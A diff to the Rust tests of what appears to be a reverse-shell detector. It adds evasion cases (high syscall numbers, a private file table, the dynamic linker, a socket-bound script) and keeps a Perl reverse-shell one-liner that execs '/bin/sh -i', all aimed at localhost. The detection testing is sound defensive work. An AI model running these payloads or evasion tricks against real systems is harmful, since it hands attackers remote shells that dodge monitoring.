@@ -52,8 +52,11 @@ fn talk(mut shell: Shell, child: &Child, culprit: Culprit) -> (u32, u64) {
 }
 
 fn check(alerts: Vec<Value>, (pid, start): (u32, u64), remote: SocketAddr) {
-    assert_eq!(alerts.len(), 1, "{alerts:#?}");
-    let alert = &alerts[0];
+    // On a slow machine a shell may first be noted as one that may be honest (severity high).
+    let critical: Vec<&Value> =
+        alerts.iter().filter(|alert| alert["severity"] == "critical").collect();
+    assert_eq!(critical.len(), 1, "{alerts:#?}");
+    let alert = critical[0];
     assert_eq!(alert["pattern_name"], "reverse_shell");
     assert_eq!(alert["severity"], "critical");
     assert_eq!(alert["mitre"], "T1059");
@@ -225,4 +228,37 @@ fn perl_that_execs() {
                 inet_aton('HOST')))or die;open(STDIN,'>&S');open(STDOUT,'>&S');\
                 open(STDERR,'>&S');exec('/bin/sh -i');";
     attack("127.0.0.1", Culprit::Shell, script("perl", "-e", code));
+}
+
+#[test]
+fn c_with_system_call_numbers_above_32_bits() {
+    // The kernel looks at the lower half of the number only.
+    attack("127.0.0.1", Culprit::Shell, program("high_number", "4"));
+}
+
+#[test]
+fn c_behind_a_thread_with_a_table_of_its_own() {
+    attack("127.0.0.1", Culprit::Shell, program("private_table", "4"));
+}
+
+#[test]
+fn c_through_the_dynamic_linker() {
+    attack("127.0.0.1", Culprit::Shell, program("linker", "4"));
+}
+
+#[test]
+fn a_script_that_opens_an_interactive_shell() {
+    let Some(bed) = Bed::new() else { return };
+    let script = bed.path("handler.sh");
+    std::fs::write(&script, "exec /bin/sh -i\n").unwrap();
+    let sentinel = Sentinel::start(&bed, &[]);
+    let peer = Peer::listen("127.0.0.1");
+    let mut command = bed.command(compiled("shell_on_socket"));
+    command.args(["script", "4", "connect", &peer.address().port().to_string()]).arg(&script);
+    let mut child = spawn(&mut command);
+    let expected = talk(peer.shell(), &child, Culprit::Shell);
+    child.wait().unwrap();
+    let alerts = sentinel.stop().alerts;
+    assert_eq!(alerts.len(), 2, "high for the script, critical for the shell: {alerts:#?}");
+    check(alerts, expected, peer.address());
 }
